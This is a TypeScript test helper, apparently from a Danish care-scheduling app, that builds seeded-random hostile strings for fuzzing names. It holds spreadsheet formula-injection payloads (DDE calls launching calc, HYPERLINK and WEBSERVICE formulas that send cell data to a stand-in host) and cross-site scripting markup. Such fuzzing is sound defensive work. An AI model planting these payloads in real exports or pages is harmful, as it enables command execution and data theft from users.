// What somebody who means harm might call a meeting, an item or an agreement.
import { type Chance, chanceFrom } from './seeded-random.ts';

const formulas = [
  "=cmd|'/C calc'!A0",
  '+HYPERLINK("http://evil.example?x="&A1,"Klik")',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/"&B2)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '%0A=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '=1',
];
const leads = [
  '',
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '"',
  '""',
  "'",
  '\u00a0',
  '\u200b',
  '\ufeff',
  ';',
  ',',
  '";',
  '",',
  '\t"',
  '\u202e',
  '\0',
];
const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><a href=javascript:alert(1)>x</a>",
  '</title><h1>',
  '</style><script>',
  '<!--',
  '&lt;b&gt;',
  ']]>',
  '<b>fed</b>',
];
const plain = ['Udskrivning', 'Bo ringer', 'Hjemmeplejen', 'møde 3', 'æøå', '👩‍⚕️', '12'];

export function hostileTexts(count: number, seed: number): string[] {
  const chance = chanceFrom(seed);
  return Array.from({ length: count }, () => hostile(chance));
}

function hostile(chance: Chance): string {
  const parts = Array.from({ length: 1 + chance.below(3) }, () =>
    chance.of([...formulas, ...formulas, ...markup, ...plain, ...leads]),
  );
  return `${chance.of(leads)}${parts.join(chance.of(['', ' ', ';', ',', '\t', '\n', '"', '";"', '","']))}`;
}
